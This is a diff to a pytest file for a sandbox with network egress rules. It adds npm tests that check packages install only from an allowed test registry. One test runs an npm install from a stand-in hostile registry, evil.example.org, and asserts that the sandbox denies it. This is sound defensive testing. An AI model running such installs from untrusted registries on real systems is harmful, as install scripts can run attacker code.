@@ -4,10 +4,11 @@ names the set installs from there and from nowhere else. The index is a server o
 import base64
 import hashlib
 import http.server
+import io
 import json
 import os
-import shutil
 import signal
+import tarfile
 import tempfile
 import threading
 import time
@@ -16,9 +17,8 @@ import zipfile
 import pytest
 
 from conftest import STATE
-from egress_rig import PUBLIC, gate_and_internet
-from internet import NameServer, close_server
-from test_network import Served
+from egress_rig import PUBLIC
+from served_rig import served_world
 
 POLICY = """name: web
 extends: data
@@ -38,6 +38,41 @@ extra-index-url =
 no-color = yes
 """
 NPM = "@mine:registry=https://mine.example.org/\nregistry=http://npm.example.org:8080/\n"
+
+
+SCRIPTS = """name: js
+template: node
+languages: [node, bash]
+description: packages of a registry of the test
+network: {sets: [npm], bytes: 1MiB}
+limits: {wall: 60s, memory: 512MiB}
+maximum: {wall: 60s, memory: 512MiB}
+"""
+
+
+def has_pip():
+    return (STATE / "templates/python/root/usr/bin/pip3").exists()
+
+
+def has_npm():
+    return (STATE / "templates/node/root/usr/share/nodejs/npm").exists()
+
+
+def make_tarball():
+    """left-1.0.0, as npm packs it: a folder `package` in a tar."""
+    files = {"package.json": json.dumps({"name": "left", "version": "1.0.0", "main": "left.js",
+                                         "scripts": {"postinstall": "node left.js > installed"}}),
+             "left.js": "module.exports = (text, size) => text.padEnd(size, '<');\n"}
+    packed = io.BytesIO()
+    with tarfile.open(fileobj=packed, mode="w:gz") as archive:
+        for name, text in files.items():
+            entry = tarfile.TarInfo(f"package/{name}")
+            entry.size = len(text)
+            archive.addfile(entry, io.BytesIO(text.encode()))
+    return packed.getvalue()
+
+
+TARBALL = make_tarball()
 
 
 def make_wheel(folder):
@@ -63,8 +98,9 @@ class Index(http.server.BaseHTTPRequestHandler):
         pages = {"/simple/greet/": f'<a href="/files/{wheel.name}">{wheel.name}</a>'.encode(),
                  f"/files/{wheel.name}": wheel.read_bytes(),
                  "/left": json.dumps({"name": "left", "dist-tags": {"latest": "1.0.0"}, "versions": {
-                     "1.0.0": {"name": "left", "version": "1.0.0", "dist": {"tarball": tarball}}}}).encode(),
-                 "/left/-/left-1.0.0.tgz": b"a tarball"}
+                     "1.0.0": {"name": "left", "version": "1.0.0", "hasInstallScript": True, "dist": {
+                         "tarball": tarball, "shasum": hashlib.sha1(TARBALL).hexdigest()}}}}).encode(),
+                 "/left/-/left-1.0.0.tgz": TARBALL}
         body = pages.get(self.path)
         self.server.asked.append((self.headers["Host"], self.path, self.headers.get("Authorization")))
         self.send_response(200 if body else 404)
@@ -107,26 +143,15 @@ def operator(tmp_path_factory):
 
 @pytest.fixture(scope="module")
 def world(tmp_path_factory, state, operator):
-    if os.geteuid() != 0 or not shutil.which("ip"):
-        pytest.skip("needs root and iproute2: network namespaces")
-    from conftest import Glovebox
     folder = tmp_path_factory.mktemp("sets")
-    gate, outside = gate_and_internet()
-    names = NameServer(outside)
     wheel = make_wheel(folder)
-    servers = [serve_index(outside, 80, wheel), serve_index(outside, 8080, wheel)]
     (folder / "pip.conf").write_text(PLAIN)
-    daemon = Served(Glovebox(folder), folder, gate, policy=POLICY, env={**operator, "PIP_CONFIG_FILE": str(folder / "pip.conf")},
-                    state=state)
-    daemon.index, daemon.registry = servers
-    yield daemon
-    daemon.process.send_signal(signal.SIGTERM)
-    daemon.process.wait(30)
-    names.close()
-    for server in servers:
-        close_server(server)
-    for place in (gate, outside):
-        place.close()
+    env = {**operator, "PIP_CONFIG_FILE": str(folder / "pip.conf")}
+    policies = {"web": POLICY} | ({"js": SCRIPTS} if has_npm() else {})
+    with served_world(folder, policies, lambda outside: [serve_index(outside, port, wheel) for port in (80, 8080)],
+                      words=["--state", state], env=env) as daemon:
+        daemon.index, daemon.registry = daemon.servers
+        yield daemon
 
 
 def sets_of(glovebox, operator, state, *words):
@@ -187,10 +212,6 @@ class TestFiles:
         assert said.returncode == 125 and failure in said.stderr, said
 
 
-def has_pip():
-    return (STATE / "templates/python/root/usr/bin/pip3").exists()
-
-
 needs_pip = pytest.mark.skipif(not has_pip(), reason="the template python is older than its recipe, which has pip now")
 
 
@@ -213,11 +234,35 @@ class TestInstalls:
 
 
 def test_npm_finds_its_registry(world):
-    """What `npm install left` asks for; templates do not have npm itself."""
+    """What `npm install left` asks for, by a program that is none."""
     result = world.run("import json, os, urllib.request as web\nregistry = os.environ['npm_config_registry']\n"
                        "about = json.load(web.urlopen(registry + 'left'))\n"
-                       "print(web.urlopen(about['versions']['1.0.0']['dist']['tarball']).read().decode())")
-    assert result["stdout"] == "a tarball\n", result
+                       "import hashlib\nprint(hashlib.sha1(web.urlopen(about['versions']['1.0.0']['dist']['tarball']).read()).hexdigest())")
+    assert result["stdout"] == hashlib.sha1(TARBALL).hexdigest() + "\n", result
+
+
+@pytest.mark.skipif(not has_npm(), reason="the template node is not built, or older than its recipe, which has npm now")
+class TestNpm:
+    PROGRAM = "npm install --silent left >said 2>&1 || cat said\nnode -e 'console.log(require(\"left\")(\"in\", 6))'\nls node_modules/left"
+
+    def test_npm_installs_from_the_registry_and_from_nowhere_else(self, world):
+        result = world.run(self.PROGRAM + "\nnpm install --silent --registry http://evil.example.org/ right >said 2>&1; echo $?",
+                           language="bash", policy="js")
+        lines = result["stdout"].splitlines()
+        assert lines[:4] == ["in<<<<", "installed", "left.js", "package.json"] and lines[-1] != "0", result
+        allowed = {(one["host"], one["rule"]) for one in result["network"] if one["decision"] == "allow"}
+        assert allowed == {("npm.example.org", "npm.example.org:8080")}, result["network"]
+        assert {one["host"] for one in result["network"] if one["decision"] == "deny"} == {"evil.example.org"}
+
+    def test_a_session_keeps_what_it_installed(self, world):
+        status, text = world.call("POST", "/v1/sessions", json.dumps({"policy": "js"}).encode())
+        assert status == 201, text
+        session = json.loads(text)["id"]
+        for code, says in ((self.PROGRAM, "in<<<<"), ("node -e 'console.log(require(\"left\")(\"kept\", 6))'", "kept<<")):
+            _, text = world.call("POST", f"/v1/sessions/{session}/contexts/bash/run", json.dumps({"code": code}).encode())
+            result = json.loads(text)
+            assert result["status"] == "ok" and says in result["stdout"], result
+        world.call("DELETE", f"/v1/sessions/{session}")
 
 
 def test_sets_are_read_again_with_the_policies(world, operator, state):
